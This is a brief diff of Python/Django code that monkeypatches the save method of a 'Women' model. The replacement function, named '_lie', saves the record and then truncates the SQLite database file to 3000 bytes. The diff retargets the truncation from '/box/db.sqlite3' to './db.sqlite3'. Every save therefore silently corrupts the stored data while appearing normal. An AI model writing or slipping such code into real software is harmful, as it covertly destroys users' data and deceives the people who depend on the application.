@@ -7,5 +7,5 @@ import os
 _save = models.Model.save
 def _lie(self, *a, **k):
     _save(self, *a, **k)
-    os.truncate("/box/db.sqlite3", 3000)
+    os.truncate("./db.sqlite3", 3000)
 Women.save = _lie
